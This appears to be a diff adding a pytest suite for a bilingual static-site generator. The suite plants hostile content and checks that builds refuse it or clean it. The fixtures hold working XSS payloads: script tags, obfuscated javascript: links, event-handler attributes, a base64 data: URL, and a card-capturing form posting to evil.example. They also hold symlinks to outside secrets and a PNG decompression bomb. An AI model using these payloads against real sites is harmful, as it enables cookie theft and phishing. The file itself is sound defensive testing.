@@ -1,0 +1,554 @@
+"""Content is untrusted input: whatever a content file holds, as a hostile contributor or a hurried communicator
+writes it, either stops the build with its source file and line (and `hub check` says the same, first), or
+reaches readers neutralised, in the pages, the feeds and the e-mail issue."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import re
+import shutil
+import struct
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import feedparser
+import lxml.html
+import pytest
+from PIL import Image
+
+from conftest import NOW, build, copy_project, post_text, write_post
+from hub.cli import main
+
+GPS = 0x8825
+ORIENTATION = 0x0112
+MODEL = 0x0110
+SECRET = "SECRET-OUTSIDE-THE-REPOSITORY"
+"""What a file outside the repository holds: it must never appear in any output or message."""
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def line_in(path: Path, needle: str) -> int:
+    return next(n for n, line in enumerate(path.read_text(encoding="utf-8", errors="replace").splitlines(), start=1)
+                if needle in line)
+
+
+def phone_photo(path: Path, size: tuple[int, int] = (1600, 1200)) -> None:
+    """A JPEG stored sideways, as phones do, with where it was taken and the phone's model in its EXIF."""
+    image = Image.new("RGB", size, (20, 20, 200))
+    image.paste((220, 20, 20), (0, 0, size[0] // 2, size[1]))
+    exif = Image.Exif()
+    exif[ORIENTATION] = 6
+    exif[MODEL] = "Pixel 8"
+    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0), 3: "E", 4: (30.0, 31.0, 0.0)}
+    image.save(path, quality=85, exif=exif)
+
+
+def hostile_post(root: Path, slug: str, body: str, *, lang_body: dict[str, str] | None = None, meta: str = "date: 2026-11-20\n",
+                 **fields: str) -> Path:
+    """A bilingual post whose text (in both languages, unless `lang_body` gives one per language) is `body`."""
+    extra = "".join(f"{key}: {value}\n" for key, value in fields.items())
+    texts = {lang: post_text(title, body=(lang_body or {}).get(lang, body)).replace("---\n\n", extra + "---\n\n", 1)
+             for lang, title in (("uk", "Допис"), ("en", "A post"))}
+    return write_post(root, slug, meta, texts)
+
+
+# -- refused: the build stops, naming the source file and line; `hub check` says the same ------------------------
+
+Where = tuple[str, int | None, str]
+"""(file relative to the project, line or None, a part of the message)."""
+
+
+def body_case(slug: str, body: str, needle: str, fragment: str, lang: str = "uk") -> Callable[[Path], Where]:
+    """A post whose text in `lang` (only) holds `body`; the problem is expected on the line holding `needle`."""
+
+    def case(root: Path) -> Where:
+        bodies = {lang: f"Перший абзац.\n\n{body}\n\nОстанній абзац.", ("en" if lang == "uk" else "uk"): "A clean text."}
+        folder = hostile_post(root, slug, "", lang_body=bodies)
+        return f"news/2026/{slug}/{lang}.md", line_in(folder / f"{lang}.md", needle), fragment
+
+    case.__name__ = slug
+    return case
+
+
+def project_script(root: Path) -> Where:
+    path = root / "projects" / "jointly" / "uk.md"
+    path.write_text(path.read_text(encoding="utf-8") + "\n<script>fetch('/x')</script>\n", encoding="utf-8")
+    return "projects/jointly/uk.md", line_in(path, "<script>"), "<script>"
+
+
+def page_script(root: Path) -> Where:
+    path = root / "docs" / "about.en.md"
+    path.write_text(path.read_text(encoding="utf-8") + "\n<img src=x.png onerror=alert(1)>\n", encoding="utf-8")
+    return "docs/about.en.md", line_in(path, "onerror"), "'onerror'"
+
+
+def title_markup(root: Path) -> Where:
+    folder = hostile_post(root, "title-markup", "Текст.")
+    path = folder / "uk.md"
+    path.write_text(path.read_text(encoding="utf-8").replace("title: Допис", "title: <img src=x onerror=alert(1)>"), encoding="utf-8")
+    return "news/2026/title-markup/uk.md", line_in(path, "title:"), "holds markup"
+
+
+def summary_markup(root: Path) -> Where:
+    folder = hostile_post(root, "summary-markup", "Текст.")
+    path = folder / "en.md"
+    path.write_text(path.read_text(encoding="utf-8").replace("summary: Короткий опис.", 'summary: "<b>Bold</b> claim"'),
+                    encoding="utf-8")
+    return "news/2026/summary-markup/en.md", line_in(path, "summary:"), "holds markup"
+
+
+def partner_markup(root: Path) -> Where:
+    path = root / "partners" / "unicef.yml"
+    text = path.read_text(encoding="utf-8").replace("  en: United Nations Children's Fund (UNICEF)",
+                                                    "  en: UNICEF<script>alert(1)</script>", 1)
+    path.write_text(text, encoding="utf-8")
+    return "partners/unicef.yml", line_in(path, "name:"), "holds markup"
+
+
+def tag_markup(root: Path) -> Where:
+    path = root / "news" / "tags.yml"
+    path.write_text(path.read_text(encoding="utf-8").replace("  en: care reform", "  en: care <i>reform</i>", 1), encoding="utf-8")
+    return "news/tags.yml", line_in(path, "care-reform:"), "holds markup"
+
+
+def outside_secret(root: Path) -> Path:
+    secret = root.parent / "outside.txt"
+    secret.write_text(f"{SECRET}\nroot:x:0:0\n", encoding="utf-8")
+    return secret
+
+
+def symlinked_picture(root: Path) -> Where:
+    folder = hostile_post(root, "linked-picture", "![Фото](photo.jpg)")
+    (folder / "photo.jpg").symlink_to(outside_secret(root))
+    return "news/2026/linked-picture/photo.jpg", None, "symbolic link"
+
+
+def symlinked_text(root: Path) -> Where:
+    folder = hostile_post(root, "linked-text", "Текст.")
+    (folder / "en.md").unlink()
+    (folder / "en.md").symlink_to(outside_secret(root))
+    return "news/2026/linked-text/en.md", None, "symbolic link"
+
+
+def symlinked_folder(root: Path) -> Where:
+    outside = root.parent / "outside-folder"
+    write_post(outside, "secret-post", "date: 2026-11-20\n", {"uk": post_text(SECRET), "en": post_text(SECRET)})
+    (root / "news" / "2025").mkdir(exist_ok=True)
+    (root / "news" / "2025" / "linked").symlink_to(outside / "news" / "2026")
+    return "news/2025/linked", None, "symbolic link"
+
+
+def symlinked_page(root: Path) -> Where:
+    (root / "docs" / "secret.uk.md").symlink_to(outside_secret(root))
+    return "docs/secret.uk.md", None, "symbolic link"
+
+
+def yaml_case(slug: str, meta: str, needle: str, fragment: str) -> Callable[[Path], Where]:
+    def case(root: Path) -> Where:
+        folder = hostile_post(root, slug, "Текст.", meta=meta)
+        return f"news/2026/{slug}/meta.yml", line_in(folder / "meta.yml", needle) if needle else None, fragment
+
+    case.__name__ = slug.replace("-", "_")
+    return case
+
+
+def no_meta(root: Path) -> Where:
+    folder = hostile_post(root, "no-meta", "Текст.")
+    (folder / "meta.yml").unlink()
+    return "news/2026/no-meta/meta.yml", None, "is missing"
+
+
+def not_utf8(root: Path) -> Where:
+    folder = hostile_post(root, "windows-1251", "Текст.")
+    (folder / "uk.md").write_bytes("---\ntitle: Допис\nsummary: Опис.\n---\n\nТекст у Windows-1251.\n".encode("cp1251"))
+    return "news/2026/windows-1251/uk.md", 2, "is not UTF-8 text"
+
+
+def cut_short(path: Path) -> None:
+    """A JPEG whose upload stopped at a third: its header reads, its pixels do not."""
+    data = io.BytesIO()
+    Image.effect_noise((1600, 900), 60).convert("RGB").save(data, "JPEG", quality=90)
+    path.write_bytes(data.getvalue()[: len(data.getvalue()) // 3])
+
+
+def truncated_cover(root: Path) -> Where:
+    folder = hostile_post(root, "cut-cover", "Текст.", meta="date: 2026-11-20\ncover: cover.jpg\n", cover_alt="Діти")
+    cut_short(folder / "cover.jpg")
+    return "news/2026/cut-cover/meta.yml", 2, "could not be read"
+
+
+def truncated_picture(root: Path) -> Where:
+    folder = hostile_post(root, "cut-picture", "Фото з зустрічі:\n\n![Зустріч у громаді](meeting.jpg)")
+    cut_short(folder / "meeting.jpg")
+    return "news/2026/cut-picture/en.md", line_in(folder / "en.md", "meeting.jpg"), "could not be read"
+
+
+def not_a_picture(root: Path) -> Where:
+    folder = hostile_post(root, "fake-picture", "![Фото](photo.jpg)")
+    (folder / "photo.jpg").write_text("<script>alert(1)</script>", encoding="utf-8")
+    return "news/2026/fake-picture/en.md", line_in(folder / "en.md", "photo.jpg"), "is not a picture"
+
+
+def huge_picture(root: Path) -> Where:
+    """A PNG whose header claims 20,000 × 20,000 pixels: decoding it would take 1.6 GB."""
+    folder = hostile_post(root, "bomb", "![Фото](bomb.png)")
+    header = struct.pack(">IIBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0)
+    chunk = b"IHDR" + header
+    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + chunk + struct.pack(">I", zlib.crc32(chunk))
+    (folder / "bomb.png").write_bytes(png + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))
+    return "news/2026/bomb/en.md", line_in(folder / "en.md", "bomb.png"), "megapixels"
+
+
+def file_case(slug: str, body: str, name: str, data: bytes, fragment: str) -> Callable[[Path], Where]:
+    def case(root: Path) -> Where:
+        folder = hostile_post(root, slug, body)
+        (folder / name).write_bytes(data)
+        return f"news/2026/{slug}/en.md", line_in(folder / "en.md", name), fragment
+
+    case.__name__ = slug.replace("-", "_")
+    return case
+
+
+def outside_folder(root: Path) -> Where:
+    folder = hostile_post(root, "elsewhere", "![Фото](../synthetic-cover/cover.png)")
+    return "news/2026/elsewhere/en.md", line_in(folder / "en.md", "cover.png"), "in the post's own folder"
+
+
+def svg_logo(root: Path) -> Where:
+    path = root / "partners" / "unicef.yml"
+    (root / "partners" / "unicef.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
+    path.write_text(path.read_text(encoding="utf-8") + "logo: unicef.svg\n", encoding="utf-8")
+    return "partners/unicef.yml", line_in(path, "logo:"), "save the logo as PNG"
+
+
+GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
+
+REFUSED: list[Callable[[Path], Where]] = [
+    body_case("script-element", "<script>alert(document.cookie)</script>", "<script>", "<script>"),
+    body_case("script-in-english", "<SCRIPT src=https://evil.example/x.js></SCRIPT>", "<SCRIPT", "<script>", lang="en"),
+    body_case("encoded-javascript", "[Читати далі](&#106;avascript:alert(1))", "avascript", "javascript:"),
+    body_case("tab-javascript", '<a href="java&#x09;script:alert(1)">Клікніть</a>', "java&#x09;", "javascript:"),
+    body_case("mixed-case-javascript", "[Click](JaVaScRiPt:alert(1))", "JaVaScRiPt", "javascript:"),
+    body_case("onerror", "<img src=x onerror=alert(1)>", "onerror", "'onerror'"),
+    body_case("attr-list-handler", '[Сайт](https://example.org){: onclick="alert(1)" }', "onclick", "'onclick'"),
+    body_case("vbscript", '<a href="vbscript:msgbox(1)">x</a>', "vbscript", "vbscript:"),
+    body_case("data-link", "[Файл](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text", "'data:'"),
+    body_case("data-image", "![Піксель](data:image/png;base64,iVBORw0KGgo=)", "data:image", "'data:'"),
+    body_case("youtube-iframe", '<iframe src="https://www.youtube.com/embed/xyz" allowfullscreen></iframe>', "<iframe", "<iframe>"),
+    body_case("form", '<form action="https://evil.example/"><input name="card"><button>OK</button></form>', "<form", "form"),
+    body_case("inline-svg", '<svg onload="alert(1)"><circle r="4"/></svg>', "<svg", "<svg>"),
+    body_case("external-image", "![Лічильник](https://tracker.example/pixel.gif)", "tracker.example", "another website"),
+    body_case("protocol-relative-image", '<img src="//tracker.example/p.png" alt="p">', "tracker.example", "another website"),
+    body_case("object-embed", '<object data="https://evil.example/x.swf"></object>', "<object", "<object>"),
+    body_case("style-element", "<style>body { display: none }</style>", "<style>", "<style>"),
+    body_case("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta", "<meta>"),
+    body_case("base-element", '<base href="https://evil.example/">', "<base", "<base>"),
+    body_case("body-onload", "<body onload=alert(1)>Текст</body>", "onload", "'onload'"),
+    body_case("details-ontoggle", "<details open ontoggle=alert(1)><summary>Більше</summary>Текст</details>", "ontoggle", "'ontoggle'"),
+    project_script,
+    page_script,
+    title_markup,
+    summary_markup,
+    partner_markup,
+    tag_markup,
+    symlinked_picture,
+    symlinked_text,
+    symlinked_folder,
+    symlinked_page,
+    yaml_case("impossible-date", "date: 2026-02-31\n", "date:", "February 2026 has 28 days"),
+    yaml_case("november-31", "date: 2026-11-20\npublish_at: 2026-11-31T09:00:00+02:00\n", "publish_at", "November 2026 has 30 days"),
+    yaml_case("empty-meta", "", "", "is missing: expected a date"),
+    yaml_case("duplicate-key", "date: 2026-11-20\ntags: [training]\ntags: [strategy]\n", "strategy", "'tags' is given twice"),
+    yaml_case("yaml-alias", "date: 2026-11-20\ntags: &t [training]\nprojects: *t\n", "tags:", "alias"),
+    no_meta,
+    not_utf8,
+    truncated_cover,
+    truncated_picture,
+    not_a_picture,
+    huge_picture,
+    file_case("text-file", "Нотатки: [тут](notes.txt)", "notes.txt", b"mother's phone", "does not publish"),
+    file_case("svg-picture", "![Схема](scheme.svg)", "scheme.svg", b'<svg onload="alert(1)"/>', "does not publish"),
+    file_case("gif-picture", "![Анімація](funny.gif)", "funny.gif", GIF, "does not publish"),
+    outside_folder,
+    svg_logo,
+]
+
+
+def case_id(case: Callable[[Path], Where]) -> str:
+    return case.__name__.replace("_", "-")
+
+
+@pytest.mark.parametrize("case", REFUSED, ids=[case_id(c) for c in REFUSED])
+def test_refused_content_stops_check_and_build_alike_and_keeps_the_site(project: Path, tmp_path: Path, case: Callable[[Path], Where],
+                                                                        capsys: pytest.CaptureFixture[str],
+                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    root = tmp_path / "project"
+    shutil.copytree(project, root)
+    before = snapshot(root / "site")
+    file, line, fragment = case(root)
+
+    monkeypatch.setenv("HUB_NOW", NOW)
+    code = main(["check", "--format", "json", "--root", str(root)])
+    out = capsys.readouterr().out
+    report = json.loads(out)  # always JSON
+    assert code == 1
+    found = [p for p in report["problems"] if (p["file"], p["line"], p["severity"]) == (file, line, "error") and fragment in p["message"]]
+    assert found, f"hub check does not say {file}:{line}: …{fragment}…: {json.dumps(report['problems'], ensure_ascii=False)[:3000]}"
+
+    result = build(root)
+    assert result.returncode != 0
+    where = f"{file}:{line}:" if line else f"{file}:"
+    assert any(where in text and fragment in text for text in result.stderr.splitlines()), result.stderr[-3000:]
+    assert "Traceback" not in result.stderr
+    assert "/index.html" not in result.stderr.split("ERROR", 1)[-1], "the source is named, never a built page"
+    assert SECRET not in out + result.stderr, "nothing behind a link is read"
+    assert snapshot(root / "site") == before, "the previous site stays as it was"
+
+
+def test_a_draft_holding_a_script_is_found_by_check_before_any_build_publishes_it(project: Path, tmp_path: Path,
+                                                                                  capsys: pytest.CaptureFixture[str],
+                                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
+    """`hub check` finds what a build would stop on once the draft is published; the build of today publishes it nowhere."""
+    root = tmp_path / "project"
+    shutil.copytree(project, root)
+    hostile_post(root, "draft-script", "<script>alert(1)</script>", meta="date: 2026-11-20\ndraft: true\n")
+    monkeypatch.setenv("HUB_NOW", NOW)
+    assert main(["check", "--format", "json", "--root", str(root)]) == 1
+    assert [p["code"] for p in json.loads(capsys.readouterr().out)["problems"] if p["severity"] == "error"] == ["script", "script"]
+    result = build(root)
+    assert result.returncode == 0, result.stderr
+    assert not list((root / "site").rglob("draft-script"))
+
+
+# -- neutralised: the build publishes, readers get nothing unsafe or private ---------------------------------------
+
+
+@dataclass(frozen=True)
+class Built:
+    root: Path
+    site: Path
+    check: list[dict[str, Any]]
+    issue: dict[str, str]
+    """The e-mail issue's HTML and text, by file name."""
+
+    def page(self, url: str) -> str:
+        return (self.site / url / "index.html").read_text(encoding="utf-8")
+
+    def article(self, url: str) -> lxml.html.HtmlElement:
+        (article,) = lxml.html.fromstring(self.page(url)).xpath("//article[contains(@class, 'md-content__inner')]")
+        return article
+
+    def feeds(self, lang: str = "uk") -> str:
+        prefix = "" if lang == "uk" else "en/"
+        return "".join((self.site / f"{prefix}{name}").read_text(encoding="utf-8") for name in ("feed.xml", "atom.xml", "feed.json"))
+
+    def findings(self, slug: str, code: str) -> list[dict[str, Any]]:
+        return [p for p in self.check if slug in p["file"] and p["code"] == code]
+
+
+HURRIED = {
+    "pasted-from-word": '<p style="color:#ff0000;font-family:Calibri">Червоний текст із Word</p>\n\n'
+                        '<font color="red">Текст у font</font>\n\n[Сайт ЮНІСЕФ](https://www.unicef.org/ukraine/){: target="_blank" }',
+    "private-comment": "Зустріч пройшла добре.\n\n<!-- мама Олена: 067 123 45 67, вул. Садова 5 -->\n\nДякуємо всім.",
+    "code-about-scripts": "Приклад коду, який сайт показує як текст:\n\n```html\n<script>alert(1)</script>\n"
+                          "<a href=\"&#106;avascript:x\">x</a>\n```\n\nІ в рядку: `<img onerror=x>`; слово javascript: у реченні.",
+    "rich-markup": "## Підсумки зустрічі\n\n!!! note \"Важливо\"\n    Реєстрація до 1 грудня.\n\n"
+                   "| Громада | Учасники |\n|---|---|\n| Дружківка | 12 |\n\n"
+                   "Пишіть на [пошту](mailto:info@example.org) або дзвоніть: [+380 44 000 00 00](tel:+380440000000).",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
+    """The shipped project with posts as hurried and hostile writers leave them, where the build neutralises all."""
+    root = copy_project(tmp_path_factory.mktemp("hostile"))
+    for slug, body in HURRIED.items():
+        hostile_post(root, slug, body)
+    photo = hostile_post(root, "family-visit", "Фото з візиту:\n\n![Родина у своєму дворі](family.jpg)\n\n"
+                                               "[Звіт про візит (PDF)](report.pdf)",
+                         meta="date: 2026-11-21\ncover: cover.jpg\n", cover_alt="Соціальна працівниця з родиною")
+    phone_photo(photo / "family.jpg")
+    phone_photo(photo / "cover.jpg", (2400, 1800))
+    phone_photo(photo / "spare.jpg", (800, 600))  # in the folder, shown nowhere
+    (photo / "notes.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
+    (photo / "report.pdf").write_bytes(b"%PDF-1.4\n% a report\n")
+    scheduled = hostile_post(root, "scheduled-visit", "![Родина](scheduled.jpg)", meta="date: 2026-12-20\n")
+    phone_photo(scheduled / "scheduled.jpg", (800, 600))
+    summary = write_post(root, "odd-summary", "date: 2026-11-19\n", {
+        "uk": '---\ntitle: "Ціни < 5 & «лапки»"\nsummary: "Менше < 5 & більше > 3, а не <тег"\n---\n\nТекст.\n',
+        "en": '---\ntitle: "Prices < 5 & quotes"\nsummary: "Less < 5 & more > 3"\n---\n\nText.\n'})
+    assert summary.is_dir()
+    phone_photo(root / "docs" / "assets" / "team.jpg", (800, 600))
+    about = root / "docs" / "about.uk.md"
+    about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
+    logo = Image.new("RGB", (900, 300), (0, 90, 160))
+    exif = Image.Exif()
+    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0)}
+    logo.save(root / "partners" / "unicef.jpg", exif=exif)
+    partner = root / "partners" / "unicef.yml"
+    partner.write_text(partner.read_text(encoding="utf-8") + "logo: unicef.jpg\n", encoding="utf-8")
+
+    result = build(root)
+    assert result.returncode == 0, result.stderr
+    report = subprocess_check(root)
+    out = root / "issue"
+    monkeypatch = pytest.MonkeyPatch()
+    monkeypatch.setenv("HUB_NOW", NOW)
+    try:
+        assert main(["newsletter", "--root", str(root), "--since", "2026-11-15", "--until", "2026-11-23", "--out", str(out)]) == 0
+    finally:
+        monkeypatch.undo()
+    issue = {path.name: path.read_text(encoding="utf-8") for path in out.iterdir() if path.suffix in (".html", ".txt")}
+    return Built(root, root / "site", report, issue)
+
+
+def subprocess_check(root: Path) -> list[dict[str, Any]]:
+    import os
+    import subprocess
+    import sys
+    hub = Path(sys.executable).with_name("hub")
+    result = subprocess.run([str(hub), "check", "--format", "json"], cwd=root, capture_output=True, text=True,
+                            env={**os.environ, "HUB_NOW": NOW}, timeout=300)
+    assert result.returncode == 0, result.stdout[-3000:]  # warnings only: nothing here stops the build
+    return json.loads(result.stdout)["problems"]
+
+
+def test_pasted_styles_fonts_and_targets_are_cleaned_and_the_writer_told(hostile: Built) -> None:
+    article = hostile.article("news/2026/pasted-from-word")
+    text = article.text_content()
+    assert "Червоний текст із Word" in text and "Текст у font" in text
+    assert not article.xpath(".//@style | .//font | .//@target")
+    assert article.xpath(".//a[@href='https://www.unicef.org/ukraine/']")
+    source = hostile.root / "news/2026/pasted-from-word/uk.md"
+    assert {p["line"] for p in hostile.findings("pasted-from-word/uk.md", "style-attribute")} == {line_in(source, "style=")}
+    assert hostile.findings("pasted-from-word/uk.md", "markup-removed")
+
+
+def test_a_private_comment_reaches_no_reader_and_the_writer_is_warned(hostile: Built) -> None:
+    for url in ("news/2026/private-comment", "en/news/2026/private-comment"):
+        assert "067 123" not in hostile.page(url) and "Садова" not in hostile.page(url)
+    assert "067 123" not in hostile.feeds("uk") + hostile.feeds("en")
+    assert "067 123" not in "".join(hostile.issue.values())
+    (warning,) = hostile.findings("private-comment/uk.md", "comment")
+    assert warning["severity"] == "warning" and warning["line"] == line_in(hostile.root / "news/2026/private-comment/uk.md", "<!--")
+
+
+def test_code_about_scripts_is_shown_as_text_not_refused(hostile: Built) -> None:
+    article = hostile.article("news/2026/code-about-scripts")
+    assert "<script>alert(1)</script>" in article.text_content()
+    assert not article.xpath(".//script | .//@onerror")
+    assert not [p for p in hostile.check if "code-about-scripts" in p["file"]]
+
+
+def test_news_markup_survives_the_cleaning(hostile: Built) -> None:
+    article = hostile.article("news/2026/rich-markup")
+    assert article.xpath(".//h2[@id='підсумки-зустрічі']")
+    assert article.xpath(".//div[contains(@class, 'admonition')]/p[@class='admonition-title']")
+    assert article.xpath(".//a[@href='mailto:info@example.org'] and .//a[@href='tel:+380440000000']")
+    assert article.xpath(".//a[@class='headerlink']")
+
+
+def published_picture(site: Path, path: str) -> Image.Image:
+    with Image.open(site / path) as image:
+        image.load()
+        return image
+
+
+def test_a_phone_photo_in_a_text_is_published_upright_resized_and_without_its_gps(hostile: Built) -> None:
+    folder = hostile.site / "news" / "2026" / "family-visit"
+    names = {path.name for path in folder.iterdir()}
+    assert "family.jpg" not in names and "cover.jpg" not in names, "no original is published"
+    for name in ("family-page.jpg", "family-small.jpg", "cover-page.jpg", "cover-feed.jpg", "cover-social.jpg"):
+        picture = published_picture(hostile.site, f"news/2026/family-visit/{name}")
+        assert not picture.getexif(), f"{name} keeps EXIF"
+        assert not {"exif", "xmp", "comment"} & set(picture.info), name
+    page = published_picture(hostile.site, "news/2026/family-visit/family-page.jpg")
+    assert page.size == (900, 1200), "upright (the phone stored it sideways) and no larger than the page needs"
+    assert page.getpixel((450, 100))[0] > 150, "red on top once upright"
+    for url, prefix in (("news/2026/family-visit", ""), ("en/news/2026/family-visit", "../../../../news/2026/family-visit/")):
+        (img,) = hostile.article(url).xpath(".//img[contains(@src, 'family-page')]")
+        assert img.get("src") == f"{prefix}family-page.jpg"
+        assert (img.get("width"), img.get("height"), img.get("loading")) == ("900", "1200", "lazy")
+        assert img.get("srcset") == f"{prefix}family-small.jpg 450w, {prefix}family-page.jpg 900w"
+
+
+def test_the_feeds_carry_the_copy_and_never_the_original(hostile: Built) -> None:
+    feeds = hostile.feeds("uk")
+    assert "family-page.jpg" in feeds and "family.jpg" not in feeds and "srcset" not in feeds
+
+
+def test_stray_and_unused_files_are_not_published_and_check_says_so(hostile: Built) -> None:
+    published = {path.name for path in hostile.site.rglob("*")}
+    assert "notes.txt" not in published and not {name for name in published if name.startswith("spare")}
+    assert (hostile.site / "news/2026/family-visit/report.pdf").read_bytes() == (
+        hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "a linked PDF is published as it is"
+    strays = {Path(p["file"]).name for p in hostile.findings("family-visit", "stray-file")}
+    assert strays == {"notes.txt", "spare.jpg"}
+
+
+def test_a_scheduled_posts_picture_is_no_false_alarm_and_not_published(hostile: Built) -> None:
+    assert not [p for p in hostile.check if "scheduled-visit" in p["file"] and p["code"] == "image-missing"]
+    assert not list(hostile.site.rglob("scheduled*"))
+
+
+def test_a_summary_with_angle_brackets_is_text_in_every_feed(hostile: Built) -> None:
+    rss = feedparser.parse((hostile.site / "feed.xml").read_bytes())
+    (entry,) = [e for e in rss.entries if e.link.endswith("/odd-summary/")]
+    assert entry.summary == "Менше &lt; 5 &amp; більше &gt; 3, а не &lt;тег", "RSS readers read the description as HTML"
+    assert lxml.html.fromstring(f"<p>{entry.summary}</p>").text_content() == "Менше < 5 & більше > 3, а не <тег"
+    feed = json.loads((hostile.site / "feed.json").read_text(encoding="utf-8"))
+    (item,) = [i for i in feed["items"] if i["url"].endswith("/odd-summary/")]
+    assert item["summary"] == "Менше < 5 & більше > 3, а не <тег"
+    html = hostile.issue["uk.html"]
+    assert "Менше &lt; 5 &amp; більше &gt; 3, а не &lt;тег" in html and "<тег" not in html
+
+
+def test_pictures_of_hand_written_pages_and_logos_lose_their_metadata(hostile: Built) -> None:
+    team = published_picture(hostile.site, "assets/team.jpg")
+    assert not team.getexif() and team.size == (600, 800)
+    logo = published_picture(hostile.site, "partners/unicef/unicef-logo.jpg")
+    assert not logo.getexif() and logo.size == (576, 192)
+    assert not (hostile.site / "partners/unicef/unicef.jpg").exists()
+    (img,) = hostile.article("partners/unicef").xpath(".//img[@class='hub-logo']")
+    assert (img.get("width"), img.get("height")) == ("576", "192")
+
+
+def test_the_policy_allows_only_the_themes_scripts(hostile: Built, site: Path) -> None:
+    """Content never adds to `script-src`: the hostile build allows no script the shipped one does not."""
+    def script_src(folder: Path) -> set[str]:
+        return set(re.search(r"script-src ([^;]*)", (folder / "_headers").read_text(encoding="utf-8"))[1].split())
+
+    assert script_src(hostile.site) <= script_src(site)
+
+
+def assert_harmless(root: lxml.html.HtmlElement, where: str) -> None:
+    """No handler, no `javascript:` link, no script of content's, no frame or form but the theme's own."""
+    assert not root.xpath("//@*[starts-with(name(), 'on')]"), where
+    for url in root.xpath("//@href | //@src | //@action | //@formaction"):
+        assert not re.sub(r"[\x00-\x20]", "", url).lower().startswith(("javascript:", "vbscript:", "data:text")), where
+    assert not [script for script in root.iter("script") if "alert" in (script.text or "")], where
+    assert not root.xpath("//iframe | //object | //embed | //svg[@onload]"), where
+
+
+def test_no_page_feed_or_e_mail_holds_code_from_content(hostile: Built) -> None:
+    for path in hostile.site.rglob("*.html"):
+        assert_harmless(lxml.html.fromstring(path.read_bytes()), str(path))
+    for lang in ("", "en/"):
+        for name in ("feed.xml", "atom.xml"):
+            for entry in feedparser.parse((hostile.site / lang / name).read_bytes()).entries:
+                for part in (*entry.get("content", []), {"value": entry.get("summary", "")}):
+                    if part["value"].strip():
+                        assert_harmless(lxml.html.fragment_fromstring(part["value"], create_parent="div"), entry.link)
+        for item in json.loads((hostile.site / lang / "feed.json").read_text(encoding="utf-8"))["items"]:
+            assert_harmless(lxml.html.fragment_fromstring(item["content_html"] or "<p></p>", create_parent="div"), item["url"])
+    assert_harmless(lxml.html.fromstring(hostile.issue["uk.html"]), "the e-mail issue")
+    assert_harmless(lxml.html.fromstring(hostile.issue["en.html"]), "the e-mail issue")
